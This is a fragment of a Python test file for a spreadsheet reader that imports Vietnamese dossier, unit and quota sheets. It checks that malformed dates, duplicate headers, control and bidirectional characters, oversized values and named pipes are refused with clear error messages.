        read_dossiers(write_text(tmp_path / "ds.csv", rows, "utf-8"), workflow=Workflow())
    (problem,) = refused.value.problems
    assert (problem.column, problem.field) == ("Ngày sinh", "birth_date")
    assert "not a date as dd/mm/yyyy" in problem.text("en")


@pytest.mark.parametrize("second", ["Họ và tên", "Full name", "HỌ VÀ TÊN"])
def test_a_column_given_twice_is_refused_naming_its_header(tmp_path: Path, second: str) -> None:
    rows = sheet_rows(1)
    rows[0].append(second)
    rows[1].append("Người khác")
    path = write_text(tmp_path / "ds.csv", rows, "utf-8")
    with pytest.raises(InvalidInput, match=r"«Họ và tên» .* given twice"):
        read_dossiers(path, workflow=Workflow())


def test_a_record_that_refuses_a_value_names_the_clerks_header(tmp_path: Path) -> None:
    rows = sheet_rows(1)
    rows[1][2] = "01/01/2030"  # born after entering the source pool: the record refuses it
    with pytest.raises(SheetRefused) as refused:
        read_dossiers(write_text(tmp_path / "ds.csv", rows, "utf-8"), workflow=Workflow())
    (problem,) = refused.value.problems
    assert (problem.row, problem.column, problem.field) == (2, "Ngày sinh", "birth_date")
    assert "candidate." not in problem.text("en")


def test_a_branch_name_a_record_refuses_names_the_branch_column(tmp_path: Path) -> None:
    rows = sheet_rows(1)
    rows[1][6] = "Chi bộ\u202e"  # a bidirectional override in the branch's name
    with pytest.raises(SheetRefused) as refused:
        read_dossiers(write_text(tmp_path / "ds.csv", rows, "utf-8"), workflow=Workflow())
    (problem,) = refused.value.problems
    assert (problem.column, problem.field) == ("Tên chi bộ", "branch")


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="needs named pipes")
@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_a_named_pipe_is_refused_without_waiting(tmp_path: Path, suffix: str) -> None:
    pipe = tmp_path / f"pipe{suffix}"
    os.mkfifo(pipe)
    # Run in a thread with a deadline, so that a regression fails instead of hanging.
    outcome: list[BaseException] = []
    worker = threading.Thread(
        target=lambda: _capture(outcome, lambda: read_dossiers(pipe, workflow=Workflow())),
        daemon=True,
    )
    worker.start()
    worker.join(20)
    if worker.is_alive():
        with pipe.open("wb"):  # let the blocked reader go
            pass
        pytest.fail("reading a named pipe blocked")
    assert isinstance(outcome[0], InvalidInput)
    assert "not a regular file" in str(outcome[0])


def _capture(outcome: list[BaseException], call: Callable[[], object]) -> None:
    try:
        call()
    except BaseException as exc:  # noqa: BLE001 - handed to the test
        outcome.append(exc)


# --- the tree, quotas and courses from sheets: cleaned as a dossier's texts (item 6) -----------


@pytest.mark.parametrize(
    ("name", "reason"),
    [
        ("Huyện\x1b[2J", "U+001B"),
        ("Huyện\u202e", "U+202E"),
        ("Huyện\u0085", "U+0085"),
        ("H" * 100_000, "longer than 1,000"),
    ],
    ids=["escape", "bidi", "C1 control", "100 KB"],
)
def test_a_unit_name_is_cleaned_as_a_dossiers_text(tmp_path: Path, name: str, reason: str) -> None:
    path = write_csv(
        tmp_path / "to-chuc.csv",
        [UNIT_HEADER, ["H", name, "district", "", "", ""], ["C", "C", "base_branch", "H", 1, ""]],
    )
    with pytest.raises(SheetRefused) as refused:
        read_setup(path)
    (problem,) = refused.value.problems
    assert (problem.row, problem.column, problem.field) == (2, "Tên đơn vị", "name")
    assert reason in problem.text("en")
    assert name not in str(refused.value)


def test_a_level_given_as_a_number_in_a_sheet_is_refused_not_crashed(tmp_path: Path) -> None:
    path = write_csv(tmp_path / "to-chuc.csv", [UNIT_HEADER, ["H", "Huyện", "1" * 400, "", "", ""]])
    with pytest.raises(SheetRefused) as refused:
        read_setup(path)
    assert [(p.row, p.column) for p in refused.value.problems] == [(2, "Cấp")]


@pytest.mark.parametrize("column", ["year", "admissions"])
def test_quota_numbers_of_400_digits_are_refused(tmp_path: Path, column: str) -> None:
    row: dict[str, object] = {"unit": "CB1", "year": 2021, "admissions": 2}
    row[column] = "1" + "0" * 400
    path = write_csv(tmp_path / "chi-tieu.csv", [[c.vi for c in QUOTA_COLUMNS], list(row.values())])
    with pytest.raises(SheetRefused) as refused:
        read_setup(path)
    (problem,) = refused.value.problems
    assert problem.column == next(c.vi for c in QUOTA_COLUMNS if c.field == column)
